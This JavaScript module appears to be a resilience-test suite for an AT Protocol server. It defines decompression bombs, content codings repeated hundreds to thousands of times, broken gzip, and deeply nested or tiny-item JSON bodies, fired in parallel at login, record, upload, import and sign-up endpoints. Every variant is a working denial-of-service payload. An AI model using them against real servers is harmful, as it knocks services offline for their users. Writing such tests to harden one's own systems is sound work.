// Bodies that cost more than they look: compressed many times over, made of the smallest things, or deep.
import { constants, deflateRawSync, gzipSync } from 'node:zlib'
import { COLLECTION } from './stage.js'

const MB = 1024 * 1024
const JSON_TYPE = { 'Content-Type': 'application/json' }
const RECORD_BYTES = 1_000_000
const ANONYMOUS_BYTES = 149_000

/** 1 GB of zeros in 1 MB. */
function bomb(coding) {
  const part = deflateRawSync(Buffer.alloc(16 * MB), { finishFlush: constants.Z_FULL_FLUSH })
  const start = coding === 'gzip' ? Buffer.from([31, 139, 8, 0, 0, 0, 0, 0, 0, 3]) : Buffer.from([0x78, 0x9c])
  return Buffer.concat([start, ...Array(64).fill(part)])
}

const xrpc = (nsid) => `/xrpc/${nsid}`
const CREATE = 'com.atproto.repo.createRecord'
const APPLY = 'com.atproto.repo.applyWrites'
const SESSION = 'com.atproto.server.createSession'
const token = ({ rogue }) => ({ Authorization: `Bearer ${rogue.accessJwt}` })

async function calls(attacker, { parallel, nsid, headers = () => ({}), body, close = true }) {
  const bytes = typeof body === 'function' ? body(attacker.stage) : body
  const all = { ...(close && { Connection: 'close' }), ...JSON_TYPE, ...headers(attacker.stage) }
  const request = attacker.bytes('POST', xrpc(nsid), all, bytes)
  await attacker.repeat(attacker.scaled(parallel), (i) => attacker.exchange(request, i))
}

const coded = (times) => (stage) => ({ ...token(stage), 'Content-Encoding': Array(times).fill('deflate').join(',') })
const gzip = (stage) => ({ ...token(stage), 'Content-Encoding': 'gzip' })
const anonymousGzip = () => ({ 'Content-Encoding': 'gzip' })
const carGzip = (stage) => ({ ...gzip(stage), 'Content-Type': 'application/vnd.ipld.car' })
const textGzip = (stage) => ({ ...gzip(stage), 'Content-Type': 'text/plain' })

const fill = (piece, bytes) => piece.repeat(Math.floor(bytes / piece.length)).slice(0, -1)
const names = (bytes, value) => {
  let text = ''
  for (let i = 0; text.length < bytes; i++) text += `"${i.toString(36)}":${value},`
  return text.slice(0, -1)
}
const SMALL = {
  'empty maps': (bytes) => `[${fill('{},', bytes)}]`,
  'ones': (bytes) => `[${fill('1,', bytes)}]`,
  'empty lists': (bytes) => `[${fill('[],', bytes)}]`,
  'empty strings': (bytes) => `[${fill('"",', bytes)}]`,
  'nulls': (bytes) => `[${fill('null,', bytes)}]`,
  'names of empty maps': (bytes) => `{${names(bytes, '{}')}}`,
  'names of numbers': (bytes) => `{${names(bytes, '1')}}`,
  'escapes': (bytes) => `"${fill('\\u0001', bytes)}1"`,
  'pairs of escapes': (bytes) => `"${'\\ud83d\\ude00'.repeat(bytes / 12)}"`,
  'depth of lists': (bytes) => '['.repeat(bytes / 2) + ']'.repeat(bytes / 2),
  'depth of maps': (bytes) => '{"a":'.repeat(bytes / 6) + '1' + '}'.repeat(bytes / 6),
  'lists of 30 levels': (bytes) => `[${fill(`${'['.repeat(30)}${']'.repeat(30)},`, bytes)}]`,
  'a long number': (bytes) => '1'.repeat(bytes),
  'CIDs': (bytes) => `[${fill('{"$link":"bafyreidfayvfuwqa7qlnopdjiqrxzs6blmoeu4rujcjtnci5beludirz2a"},', bytes)}]`,
  'bytes': (bytes) => `[${fill('{"$bytes":"AA"},', bytes)}]`,
}
const record = (value) => ({ rogue }) =>
  `{"repo":"${rogue.did}","collection":"${COLLECTION}","rkey":"small","record":{"$type":"${COLLECTION}","x":${value}}}`
const withAccount = (make) => ({ parallel: 50, nsid: 'com.atproto.repo.putRecord', headers: token, body: record(make(RECORD_BYTES - 1000)) })
const anonymous = (make) => ({ parallel: 50, nsid: SESSION, body: `{"identifier":${make(ANONYMOUS_BYTES)},"password":"x"}` })
const both = ([name, make]) => [[`${name}, with an account`, withAccount(make)], [`${name}, without`, anonymous(make)]]
const batch = (writes) => ({ rogue }) => `{"repo":"${rogue.did}","writes":[${writes}]}`
const aCreate = (i, value) => JSON.stringify({
  $type: `${APPLY}#create`, collection: COLLECTION, value: { $type: COLLECTION, text: `${i}`, ...value },
})

export default [
  {
    name: 'codings',
    about: 'content codings named many times, bombs, and what cannot be decompressed',
    run: calls,
    variants: {
      'twice': { parallel: 100, nsid: CREATE, headers: coded(2), body: Buffer.alloc(1_000) },
      'three times': { parallel: 100, nsid: CREATE, headers: coded(3), body: Buffer.alloc(1_000) },
      '900 times': { parallel: 100, nsid: CREATE, headers: coded(900), body: Buffer.alloc(1_000) },
      '900 times, without an account': {
        parallel: 100, nsid: SESSION, headers: () => ({ 'Content-Encoding': Array(900).fill('deflate').join(',') }), body: Buffer.alloc(1_000),
      },
      '3,500 times': { parallel: 100, nsid: CREATE, headers: coded(3_500), body: Buffer.alloc(1_000) },
      'broken gzip': { parallel: 200, nsid: CREATE, headers: gzip, body: Buffer.alloc(1_000, 7) },
      'broken gzip, without an account': { parallel: 200, nsid: SESSION, headers: anonymousGzip, body: Buffer.alloc(1_000, 7) },
      'gzip that ends half way': { parallel: 200, nsid: CREATE, headers: gzip, body: gzipSync(Buffer.alloc(100_000)).subarray(0, 60) },
      'a bomb for a record': { parallel: 20, nsid: CREATE, headers: gzip, body: bomb('gzip') },
      'a bomb for a login': { parallel: 20, nsid: SESSION, headers: anonymousGzip, body: bomb('gzip').subarray(0, 140_000) },
      'a bomb for a blob': { parallel: 20, nsid: 'com.atproto.repo.uploadBlob', headers: textGzip, body: bomb('gzip') },
      'a bomb for an import': { parallel: 20, nsid: 'com.atproto.repo.importRepo', headers: carGzip, body: bomb('gzip') },
      'a bomb of deflate': { parallel: 20, nsid: CREATE, headers: (stage) => ({ ...token(stage), 'Content-Encoding': 'deflate' }), body: bomb('deflate') },
      'a bomb in a bomb': { parallel: 20, nsid: CREATE, headers: (stage) => ({ ...token(stage), 'Content-Encoding': 'gzip, gzip' }), body: gzipSync(bomb('gzip')) },
      'a bomb for a page': { parallel: 20, nsid: '_health', headers: anonymousGzip, body: bomb('gzip') },
    },
  },
  {
    name: 'small things',
    about: 'JSON made of the smallest things',
    run: calls,
    variants: {
      ...Object.fromEntries(Object.entries(SMALL).flatMap(both)),
      'a batch of empty maps': { parallel: 50, nsid: APPLY, headers: token, body: batch(fill('{},', RECORD_BYTES)) },
      'a batch of 200 creates': { parallel: 50, nsid: APPLY, headers: token, body: batch(Array.from({ length: 200 }, (_, i) => aCreate(i)).join(',')) },
      'a batch of 200 lists': {
        parallel: 50, nsid: APPLY, headers: token, body: batch(Array.from({ length: 200 }, (_, i) => aCreate(i, { x: Array(2_000).fill(1) })).join(',')),
      },
      'a sign-up of empty maps': { parallel: 50, nsid: 'com.atproto.server.createAccount', body: `{"handle":[${fill('{},', ANONYMOUS_BYTES)}]}` },
      'preferences of empty maps': { parallel: 50, nsid: 'com.atproto.server.createAppPassword', headers: token, body: `{"name":[${fill('{},', ANONYMOUS_BYTES)}]}` },
    },
  },
]
